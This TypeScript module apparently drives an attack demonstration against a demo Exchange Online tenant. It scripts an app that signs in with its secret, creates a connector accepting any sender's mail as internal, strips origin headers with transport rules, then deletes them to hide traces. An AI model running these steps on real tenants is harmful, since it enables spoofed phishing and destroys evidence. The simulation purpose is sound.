import type { AttackArtifacts, AttackStep } from './attack-step.js';
import type { DemoTenantClient, JsonBody } from './demo-tenant-client.js';
import { LIVE_ATTACK } from './live-attack-profile.js';

/**
 * The steps of today: the app signs in with its own secret, opens a connector for mail, hides the headers, and removes
 * its traces.
 */
export function buildMailAbuseSteps(): readonly AttackStep[] {
  const { ip, strippedHeaders } = LIVE_ATTACK;
  return [
    {
      words: `The app wakes: from ${ip} it makes an inbound connector that takes mail from anywhere as internal.`,
      play: async (client, spoils) => {
        spoils.connectorName = `Gateway inbound ${spoils.appId.slice(0, 4)}`;
        await invoke(client, spoils, 'New-InboundConnector', {
          Name: spoils.connectorName,
          ConnectorType: 'OnPremises',
          SenderDomains: ['smtp:*;1'],
          SenderIPAddresses: [ip],
          RequireTls: false,
          TreatMessagesAsInternal: true,
        });
      },
    },
    {
      words: `It makes ${strippedHeaders.length} transport rules, each of which strips one header that would tell where mail came from.`,
      play: async (client, spoils) => {
        for (const [index, header] of strippedHeaders.entries()) {
          const name = `gw-${spoils.appId.slice(0, 4)}-${String(index + 1).padStart(2, '0')}`;
          await invoke(client, spoils, 'New-TransportRule', { Name: name, Enabled: true, RemoveHeader: header });
          spoils.ruleNames.push(name);
        }
      },
    },
    {
      words: 'The mail is out. It removes the rules and the connector. The app stays, and can do it again.',
      play: async (client, spoils) => {
        for (const name of spoils.ruleNames)
          await invoke(client, spoils, 'Remove-TransportRule', { Identity: name, Confirm: false });
        await invoke(client, spoils, 'Remove-InboundConnector', { Identity: spoils.connectorName, Confirm: false });
      },
    },
  ];
}

async function invoke(
  client: DemoTenantClient,
  spoils: AttackArtifacts,
  cmdlet: string,
  parameters: JsonBody,
): Promise<void> {
  const scope = 'https://outlook.office365.com/.default';
  const token = await client.asApp(spoils.appId, spoils.secret, scope, LIVE_ATTACK.ip);
  await client.exchange(token, cmdlet, parameters);
}
